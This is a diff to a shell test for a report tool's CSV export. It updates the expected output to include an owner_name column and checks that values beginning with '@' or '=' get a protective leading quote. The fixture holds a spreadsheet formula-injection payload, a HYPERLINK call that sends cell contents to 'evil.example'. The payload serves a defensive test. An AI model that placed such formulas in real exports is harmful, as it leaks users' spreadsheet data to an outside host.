@@ -30,10 +30,10 @@ run fs-report sla --format csv --from 2026-11-01
 tr -d '\r' <"$T/out" >got
 is 'sla csv: exit 0' "$status" 0
 cat >want <<'EOF'
-by,name,pieces,followed,med_d,p90_d,med_bd,p90_bd,met,missed,open,met_pct
-all,all,1,1,3.2,3.2,1,1,1,0,0,100.0
-campaign,"'@thanks",1,1,3.2,3.2,1,1,1,0,0,100.0
-owner,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,1,3.2,3.2,1,1,1,0,0,100.0
+by,name,owner_name,pieces,followed,med_d,p90_d,med_bd,p90_bd,met,missed,open,met_pct
+all,all,,1,1,3.2,3.2,1,1,1,0,0,100.0
+campaign,"'@thanks",,1,1,3.2,3.2,1,1,1,0,0,100.0
+owner,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,1,3.2,3.2,1,1,1,0,0,100.0
 EOF
 check_same 'sla csv: a campaign and an owner that start a formula get a leading quote, quoted' want got
 run fs-report outcomes --format csv --from 2026-11-01 --section deals
